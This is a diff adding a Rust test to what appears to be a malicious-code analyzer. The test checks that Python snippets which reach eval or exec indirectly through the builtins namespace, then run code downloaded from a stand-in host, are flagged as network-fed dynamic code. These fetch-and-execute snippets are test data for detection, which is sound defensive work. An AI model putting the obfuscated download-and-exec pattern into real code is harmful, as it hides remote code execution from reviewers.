@@ -1002,3 +1002,25 @@ fn a_downloaded_file_that_is_run_is_a_dropper() {
     );
     assert!(benign.droppers.is_empty(), "{:#?}", benign.droppers);
 }
+
+/// Builtins taken from their namespace are the builtins: `vars(__builtins__)["eval"]`,
+/// `__builtins__.__dict__["exec"]`, `getattr(__builtins__, "eval")`.
+#[test]
+fn builtins_taken_from_their_namespace_are_resolved() {
+    for take in [
+        "vars(__builtins__)['eval']",
+        "__builtins__.__dict__['exec']",
+        "getattr(__builtins__, 'eval')",
+    ] {
+        let f = facts(&format!(
+            "import requests\nrun = {take}\nrun(requests.get('https://b.example.top/p').text)\n"
+        ));
+        assert!(
+            f.dynamic_code.iter().any(|d| d.from_network),
+            "{take}: {:#?}",
+            f.dynamic_code
+        );
+    }
+    let f = facts("import requests\nlen_ = vars(__builtins__)['len']\nlen_(requests.get('https://b.example.top/p').text)\n");
+    assert!(f.dynamic_code.is_empty(), "{:#?}", f.dynamic_code);
+}
